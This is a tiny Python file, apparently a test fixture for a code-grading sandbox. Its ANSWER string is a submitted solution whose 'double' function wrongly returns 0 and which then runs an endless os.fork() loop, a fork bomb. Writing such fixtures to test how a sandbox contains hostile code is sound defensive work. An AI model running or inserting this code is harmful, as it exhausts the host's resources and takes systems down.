"""Multiplies without end."""

ANSWER = r"""
def double(column):
    return 0


import os

while True:
    os.fork()
"""
